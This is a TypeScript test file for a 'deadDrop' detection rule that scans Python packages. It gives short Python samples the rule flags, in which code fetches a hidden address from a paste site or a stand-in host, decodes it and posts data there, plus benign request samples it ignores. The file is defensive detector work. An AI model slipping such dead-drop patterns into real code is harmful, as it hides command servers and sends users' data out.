import { testRule } from '../../../../../test/builders/python-package.ts';
import { deadDrop } from './rule.ts';

testRule(deadDrop, {
  seen: {
    'an address from a paste':
      "import requests\nhost = requests.get('https://pastebin.com/raw/abc').text\nrequests.post(host + '/x', data='y')",
    'an encoded address':
      "import requests, base64\nhost = base64.b64decode(requests.get('https://collector.example.invalid/a').text).decode()\nrequests.get('https://' + host)",
  },
  unseen: {
    'the next page of a service':
      "import requests\npage = requests.get('https://api.example.invalid/items').json()\nrequests.get(page['next'])",
    'two requests':
      "import requests\nrequests.get('https://pastebin.com/raw/abc')\nrequests.get('https://api.example.invalid/items')",
  },
});
